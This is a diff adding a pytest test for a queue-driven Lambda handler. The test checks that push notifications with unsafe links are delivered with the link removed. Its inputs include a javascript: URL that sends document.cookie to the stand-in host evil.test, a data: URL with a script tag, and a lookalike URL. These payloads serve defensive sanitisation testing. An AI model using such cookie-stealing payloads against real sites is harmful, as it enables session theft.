@@ -125,3 +125,14 @@ def test_a_push_delivered_three_times_makes_one_connect_task(aws, monkeypatch):
         assert handler.lambda_handler(sqs_event([body]), LambdaContext()) == {"batchItemFailures": []}
     assert len(tasks) == 1
     assert {r["ClientToken"] for r in requests_seen} == {"p" * 32}
+
+
+@pytest.mark.parametrize("url", ["javascript:fetch('https://evil.test/?c='+document.cookie)",
+                                 "data:text/html,<script>alert(1)</script>", "https://evil.test/facebook.com"])
+def test_a_queued_push_with_an_unsafe_link_is_delivered_without_it(pusher, url):
+    # a push left on the queue by an earlier version, or redriven from the dead-letter queue after this one
+    _aws, receiver, module = pusher
+    message = a_push("push-js").to_message() | {"url": url}
+    assert module.lambda_handler(sqs_event([json.dumps(message)]), LambdaContext()) == {"batchItemFailures": []}
+    [(_, received)] = receiver.requests
+    assert json.loads(received)["url"] in (None, "")
